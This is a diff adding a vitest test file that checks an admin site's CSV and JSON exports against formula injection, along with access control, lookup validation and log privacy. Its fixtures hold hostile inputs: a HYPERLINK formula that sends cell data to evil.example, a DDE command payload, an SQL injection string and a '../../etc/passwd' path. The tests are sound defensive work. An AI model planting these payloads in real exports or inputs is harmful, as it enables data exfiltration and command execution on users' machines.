@@ -1,0 +1,187 @@
+import { beforeAll, expect, test } from 'vitest'
+import { openDatabase } from '../app/db/database.server.ts'
+import { articleRow, storyRow } from '../app/db/testing/rows.ts'
+import type { Answer } from './testing/answer.ts'
+import { editor, moderator, prepareCast } from './testing/cast.ts'
+import { csvCells } from './testing/csv-cells.ts'
+import { targetForFile } from './testing/target.ts'
+
+const target = targetForFile()
+
+const formula = `HYPERLINK("https://evil.example/?x="&A1,"Open")`
+const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", ',=', ';=', '＝', '＋', '－', '＠']
+const hostile = [
+  ...starts.map((start) => start + formula),
+  "=cmd|' /C calc'!A0",
+  '"\r\n=1+1,"=2+2"',
+  '\tx',
+  '-x',
+]
+/** What a spreadsheet takes for a formula, also after blanks and signs that some of them skip. */
+const runs = /^["\s,;]*[=+\-@＝＋－＠\t\r\n]/
+
+/** Stands on every page, so it is told from the texts of people. */
+const setting = '=1+1 is our brand'
+const person = '+person=@example.net'
+
+beforeAll(async () => {
+  await prepareCast(target.site.dataDir)
+  const database = await openDatabase({ dataDir: target.site.dataDir })
+  const chosen = JSON.stringify({ value: setting })
+  await database.change(['stories', 'articles', 'settings'], async (trx) => {
+    for (const text of hostile) {
+      const story = { headline: text, full_name: text, how_helped: text, encouragement: text, phone: text }
+      await trx
+        .insertInto('approval_stories')
+        .values(storyRow({ ...story, email: person }))
+        .execute()
+      const article = { title: text, content: text, excerpt: text, author: text, image_alt: text }
+      await trx.insertInto('articles').values(articleRow(article)).execute()
+      const told = { actor: text, action: 'setting.change', subject_id: text, address: text }
+      await trx
+        .insertInto('audit_log')
+        .values({
+          ...told,
+          id: crypto.randomUUID(),
+          subject_kind: 'setting',
+          facts: JSON.stringify({ text }),
+        })
+        .execute()
+      await trx
+        .insertInto('visit_counts')
+        .values({ day: new Date().toISOString().slice(0, 10), path: text, event: 'view', count: 1 })
+        .execute()
+    }
+    await trx
+      .insertInto('settings')
+      .values({ key: 'brand', chosen, updated_at: new Date(), updated_by: '=x@example.com' })
+      .execute()
+  })
+  await database.close()
+})
+
+test.each(['stories', 'articles', 'settings', 'audit'])(
+  'no cell of the %s as CSV begins like a formula, and the file holds every text',
+  async (what) => {
+    const admin = await target.signedIn()
+    const answer = await admin.post('/admin/data/export', { what, format: 'csv' })
+    expectDownload(answer, 'text/csv', 'csv')
+    const [head = [], ...rows] = csvCells(answer.body)
+    expectHarmless(rows)
+    for (const row of rows) expect(row).toHaveLength(head.length)
+    if (what === 'settings') return expect(rows).toContainEqual(['brand', `'"${setting}"`])
+    // The one apostrophe in front is all that was added.
+    const column = { stories: 'headline', articles: 'title', audit: 'actor' }[what] ?? ''
+    const texts = new Set(rows.map((row) => row[head.indexOf(column)]))
+    for (const text of hostile) expect(texts).toContain(`'${text}`)
+  },
+)
+
+test('no cell of the numbers begins like a formula', async () => {
+  const admin = await target.signedIn()
+  for (const days of ['7', '365', '=1', '-1', '9'.repeat(400)]) {
+    const answer = await admin.get(`/admin/numbers.csv?days=${encodeURIComponent(days)}`)
+    expectDownload(answer, 'text/csv', 'csv')
+    expectHarmless(csvCells(answer.body))
+    expect(answer.body).toContain('HYPERLINK')
+  }
+})
+
+test.each(['stories', 'articles', 'settings', 'audit', 'everything'])(
+  'the %s as JSON hold every text as it was written',
+  async (what) => {
+    const admin = await target.signedIn()
+    const answer = await admin.post('/admin/data/export', { what, format: 'json' })
+    expectDownload(answer, 'application/json', 'json')
+    const texts = new Set(textsIn(JSON.parse(answer.body)))
+    if (what === 'settings') expect(texts).toContain(setting)
+    else for (const text of hostile) expect(texts).toContain(text)
+  },
+)
+
+test('what is kept about one person is told as it was written, and nothing about another', async () => {
+  const admin = await target.signedIn()
+  const answer = await admin.post('/admin/people/export', { email: person.toUpperCase() })
+  expectDownload(answer, 'application/json', 'json')
+  const texts = new Set(textsIn(JSON.parse(answer.body)))
+  for (const text of hostile) expect(texts).toContain(text)
+  expect(answer.body).not.toMatch(/pending@example\.net|token_hash|submission_key/)
+})
+
+test.each(['%', '_person=@example.net', '*', "' or 1=1 --", '+person=@example.net\u0000x', '', '__proto__'])(
+  'the address %j finds nobody, and nothing of anybody is deleted',
+  async (email) => {
+    const admin = await target.signedIn()
+    const shown = await admin.post('/admin/people', { email })
+    expect(shown.body).not.toMatch(/HYPERLINK|pending@example\.net/)
+    const file = JSON.parse((await admin.post('/admin/people/export', { email })).body)
+    expect(file).toMatchObject({ stories: [], decisions: [], mails: [] })
+    for (const again of ['', email.toUpperCase(), person])
+      await admin.post('/admin/people', { intent: 'delete', email, again: again.slice(0, -1) || 'x' })
+  },
+)
+
+test('a person is not deleted by who cannot say the address twice', async () => {
+  const admin = await target.signedIn()
+  const answer = await admin.post('/admin/people', { intent: 'delete', email: person, again: '' })
+  expect(answer.status).toBe(422)
+})
+
+test('the log of the people pages and of the audit names nobody who was asked for', async () => {
+  const admin = await target.signedIn()
+  await admin.post('/admin/people', { email: 'asked.for@example.net' })
+  await admin.post('/admin/people/export', { email: 'asked.for@example.net' })
+  expect(target.site.output()).not.toContain('asked.for')
+  expect(JSON.stringify(target.rows('select * from audit_log'))).not.toContain('asked.for')
+})
+
+test.each(['passwords', '__proto__', 'constructor', 'admin_users', '../../etc/passwd', 'stories"; x="', ''])(
+  'there is no download of %j',
+  async (what) => {
+    const admin = await target.signedIn()
+    for (const format of ['csv', 'json', 'html'])
+      expect((await admin.post('/admin/data/export', { what, format })).status).toBe(400)
+  },
+)
+
+test.each([
+  ['a stranger', null, 401],
+  ['an editor', editor, 403],
+  ['a moderator', moderator, 403],
+])('%s gets no download and learns of nobody', async (_, who, status) => {
+  const visitor = who ? await target.signedIn(who) : target.visitor()
+  for (const answer of [
+    await visitor.post('/admin/data/export', { what: 'stories', format: 'csv' }),
+    await visitor.post('/admin/data/export', { what: 'everything', format: 'json', photos: 'on' }),
+    await visitor.post('/admin/people/export', { email: person }),
+    await visitor.post('/admin/people', { email: person }),
+    await visitor.post('/admin/people', { email: 'nobody@example.net' }),
+    await visitor.post('/admin/people', { intent: 'delete', email: person, again: person }),
+    await visitor.get('/admin/numbers.csv?days=7', { Accept: '*/*' }),
+  ]) {
+    expect(answer.status, answer.request).toBe(status)
+    expect(answer.body, answer.request).not.toMatch(/HYPERLINK|example\.net/)
+    expect(answer.headers['content-disposition'], answer.request).toBeUndefined()
+  }
+})
+
+function expectDownload({ status, headers, request }: Answer, type: string, ending: string) {
+  expect(status, request).toBe(200)
+  expect(headers['content-type']).toBe(`${type}; charset=utf-8`)
+  expect(headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${ending}"$`))
+  expect(headers['cache-control']).toBe('no-store')
+  // Sent as it is made: it may be longer than memory should hold.
+  expect(headers['content-length']).toBeUndefined()
+  expect(headers['x-content-type-options']).toBe('nosniff')
+}
+
+function expectHarmless(rows: string[][]) {
+  expect(rows.length).toBeGreaterThan(0)
+  expect(rows.flat().filter((cell) => runs.test(cell))).toEqual([])
+}
+
+/** Every text in a JSON value, also of texts that are JSON themselves. */
+function textsIn(value: unknown): string[] {
+  if (typeof value === 'string') return [value]
+  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
+}
